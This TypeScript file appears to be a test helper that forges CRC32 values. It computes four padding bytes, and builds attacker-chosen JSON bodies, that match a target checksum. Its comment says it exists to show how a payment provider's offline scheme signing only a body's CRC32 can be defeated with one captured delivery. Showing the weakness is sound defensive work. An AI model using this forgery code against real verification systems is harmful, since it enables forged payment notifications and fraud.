/**
 * CRC32 is linear and invertible: four chosen bytes anywhere in a message give it any CRC32. This
 * builds them, so the tests can show what PayPal's offline scheme (which signs only the CRC32 of
 * the body) lets an attacker with one captured delivery do.
 */
const table = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

/** The table's top bytes are all distinct, which is what makes each step reversible. */
const byTopByte = new Map<number, number>(Array.from(table, (value, index) => [value >>> 24, index]));

function forward(register: number, bytes: Uint8Array): number {
  let r = register;
  for (const b of bytes) r = ((r >>> 8) ^ table[(r ^ b) & 0xff]!) >>> 0;
  return r;
}

function backward(register: number, bytes: Uint8Array): number {
  let r = register;
  for (let i = bytes.length - 1; i >= 0; i--) {
    const k = byTopByte.get(r >>> 24)!;
    r = ((((r ^ table[k]!) << 8) | (k ^ bytes[i]!)) & 0xffffffff) >>> 0;
  }
  return r;
}

/** Four bytes X such that crc32(prefix + X + suffix) === target. */
export function crc32Patch(prefix: Uint8Array, suffix: Uint8Array, target: number): Buffer {
  const start = forward(0xffffffff, prefix);
  let r = backward((target ^ 0xffffffff) >>> 0, suffix);
  const indexes: number[] = [];
  for (let i = 0; i < 4; i++) {
    const k = byTopByte.get(r >>> 24)!;
    indexes.unshift(k);
    r = ((r ^ table[k]!) << 8) >>> 0;
  }
  const out: number[] = [];
  let s = start;
  for (const k of indexes) {
    out.push((s ^ k) & 0xff);
    s = ((s >>> 8) ^ table[k]!) >>> 0;
  }
  return Buffer.from(out);
}

/**
 * A JSON body of the attacker's choosing with a given CRC32: `build(nonce, pad)` must place `pad`
 * (four printable characters) inside a string; nonces are tried until the four bytes that force
 * the CRC are all printable and need no escaping.
 */
export function jsonWithCrc32(target: number, build: (nonce: string, pad: string) => string): Buffer {
  const marker = '\u0000\u0001\u0002\u0003';
  for (let nonce = 0; nonce < 100_000; nonce++) {
    const text = build(String(nonce), marker);
    const at = Buffer.from(text.slice(0, text.indexOf(marker)), 'utf8');
    const rest = Buffer.from(text.slice(text.indexOf(marker) + marker.length), 'utf8');
    const patch = crc32Patch(at, rest, target);
    if (patch.every((b) => b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c)) return Buffer.concat([at, patch, rest]);
  }
  throw new Error('no printable CRC32 patch found');
}
